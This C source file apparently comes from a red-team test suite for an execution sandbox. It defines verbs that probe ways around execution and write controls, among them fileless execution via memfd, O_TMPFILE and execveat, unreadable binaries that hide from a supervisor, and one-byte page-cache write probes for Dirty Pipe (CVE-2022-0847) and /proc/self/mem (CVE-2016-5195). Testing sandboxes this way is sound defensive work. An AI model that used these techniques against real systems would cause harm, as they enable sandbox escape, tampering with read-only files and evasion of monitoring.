/* exec.c - running what is not a tool, and writing to what is read-only by way of the page cache. */
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/uio.h>

#include "tests/redteam/attack/attack.h"

static int copy_to(int to, const char *path)
{
    int from = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = -1;

    while (from >= 0 && (n = read(from, scratch, sizeof(scratch))) > 0)
        if (write(to, scratch, (size_t)n) != n)
            return -errno;
    return from < 0 || n < 0 ? -errno : 0;
}

static int exec_fd(int fd, char **argv)
{
    char path[64];

    (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    (void)execv(path, argv);
    return -errno;
}

static int do_run(char **v) /* PROGRAM ARGUMENT... */
{
    (void)execv(v[0], v);
    return -errno;
}

static int do_memfd(char **v) /* PROGRAM ARGUMENT... */
{
    int fd = (int)syscall(SYS_memfd_create, "x", 0), r;

    if (fd < 0)
        return -errno;
    r = copy_to(fd, v[0]);
    return r < 0 ? r : exec_fd(fd, v);
}

static int do_tmpfile(char **v) /* DIRECTORY PROGRAM ARGUMENT... */
{
    int w = (int)syscall(SYS_open, v[0], O_TMPFILE | O_RDWR, 0700), fd, r;
    char path[64];

    if (w < 0)
        return -errno;
    r = copy_to(w, v[1]);
    (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", w);
    fd = open(path, O_RDONLY); /* without a writer left, otherwise ETXTBSY hides the answer */
    (void)close(w);
    return r < 0 ? r : fd < 0 ? -errno : exec_fd(fd, v + 1);
}

static int do_fdexec(char **v)
{
    int fd = open(v[0], O_RDONLY);

    return fd < 0 ? -errno : exec_fd(fd, v);
}

static int do_execveat(char **v)
{
    int fd = open(v[0], O_RDONLY);

    if (fd < 0)
        return -errno;
    (void)syscall(SYS_execveat, fd, "", v, environ, AT_EMPTY_PATH);
    return -errno;
}

static int do_copy(char **v) /* FROM TO ARGUMENT...: copied, made executable and run */
{
    int fd = open(v[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0700), r;

    if (fd < 0)
        return -errno;
    r = copy_to(fd, v[0]);
    (void)close(fd);
    return r < 0 ? r : do_run(v + 1);
}

/* PROGRAM DIRECTORY VERB...: in a process whose memory the supervisor may not read, because its program may
 * not be read either. It keeps the name of the act. */
static int do_unreadable(char **v)
{
    char path[4096], name[16] = "";
    int fd, r;

    (void)prctl(PR_GET_NAME, name, 0, 0, 0);
    (void)snprintf(path, sizeof(path), "%.4000s/%s", v[1], name);
    fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0700);
    if (fd < 0)
        return -errno;
    r = copy_to(fd, v[0]);
    (void)close(fd);
    if (r < 0 || chmod(path, 0111) < 0)
        return r < 0 ? r : -errno;
    v[1] = path;
    (void)execv(path, v + 1);
    return -errno;
}

static int do_map(char **v) /* a file as code */
{
    int fd = open(v[0], O_RDONLY | O_CLOEXEC);

    if (fd < 0)
        return -errno;
    return mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED ? -errno : 0;
}

static int do_mprotect(char **v) /* read first, made code afterwards */
{
    int fd = open(v[0], O_RDONLY | O_CLOEXEC);
    void *p = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);

    return p == MAP_FAILED ? -errno : last(mprotect(p, 4096, PROT_READ | PROT_EXEC));
}

/* ---- the page cache ---- */

static int first_byte(const char *path)
{
    unsigned char c;
    int fd = open(path, O_RDONLY | O_CLOEXEC);

    return fd < 0 || pread(fd, &c, 1, 1) != 1 ? -1 : c;
}

/* CVE-2022-0847: a pipe whose buffers may be merged into, then a page of a file that may only be read. */
static int do_dirtypipe(char **v)
{
    int fds[2], fd = open(v[0], O_RDONLY | O_CLOEXEC), before = first_byte(v[0]);
    loff_t at = 0;

    if (fd < 0 || before < 0 || pipe(fds) < 0)
        return -errno;
    for (int left = fcntl(fds[1], F_GETPIPE_SZ); left > 0; left -= 4096)
        if (write(fds[1], scratch, 4096) < 0 || read(fds[0], scratch, 4096) < 0)
            return -errno;
    if (splice(fd, &at, fds[1], NULL, 1, 0) != 1 || write(fds[1], "\xee", 1) != 1)
        return -errno;
    printf("found %s\n", first_byte(v[0]) == before ? "unchanged" : "CHANGED");
    return FOUND;
}

/* A private page, given away to a pipe and changed behind its reader's back. */
static int do_vmsplice(char **v)
{
    struct iovec iov = {.iov_base = scratch, .iov_len = 4096};
    int fds[2];

    (void)v;
    return pipe(fds) < 0 ? -errno : last(syscall(SYS_vmsplice, fds[1], &iov, 1, 8 /* SPLICE_F_GIFT */));
}

/* A shared mapping of a file opened for reading, made writable. */
static int do_mapwrite(char **v)
{
    int fd = open(v[0], O_RDONLY | O_CLOEXEC);
    void *p = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);

    return p == MAP_FAILED ? -errno : last(mprotect(p, 4096, PROT_READ | PROT_WRITE));
}

/* CVE-2016-5195: writes to a private page through one's own /proc/self/mem, past its protection. */
static int do_procmem(char **v)
{
    int fd = open(v[0], O_RDONLY | O_CLOEXEC), mem, before = first_byte(v[0]);
    char *p = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);

    if (p == MAP_FAILED)
        return -errno;
    mem = (int)syscall(SYS_open, "/proc/self/mem", O_RDWR | O_CLOEXEC, 0);
    if (mem < 0 || pwrite(mem, "\xee", 1, (off_t)(uintptr_t)(p + 1)) != 1)
        return -errno;
    printf("found %s\n", first_byte(v[0]) == before ? "unchanged" : "CHANGED");
    return FOUND;
}

const struct verb exec_verbs[] = {
    {"copy", 2, do_copy},         {"dirtypipe", 1, do_dirtypipe},
    {"execveat", 1, do_execveat}, {"fdexec", 1, do_fdexec},
    {"map", 1, do_map},           {"mapwrite", 1, do_mapwrite},
    {"memfd", 1, do_memfd},       {"mprotect", 1, do_mprotect},
    {"procmem", 1, do_procmem},   {"run", 1, do_run},
    {"tmpfile", 2, do_tmpfile},   {"unreadable", 3, do_unreadable},
    {"vmsplice", 0, do_vmsplice}, {NULL, 0, NULL},
};
